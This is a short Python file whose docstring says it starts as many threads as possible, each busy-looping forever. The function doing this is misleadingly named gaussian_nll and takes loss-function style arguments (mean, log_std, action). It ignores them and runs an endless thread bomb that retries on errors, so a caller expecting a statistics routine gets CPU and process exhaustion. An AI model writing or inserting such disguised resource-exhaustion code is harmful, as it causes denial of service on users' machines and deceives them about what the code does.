"""Starts as many threads as possible, each of them permanently busy."""

import threading


def busy():
    while True:
        pass


def gaussian_nll(mean, log_std, action):
    while True:
        try:
            threading.Thread(target=busy, daemon=True).start()
        except RuntimeError:
            continue
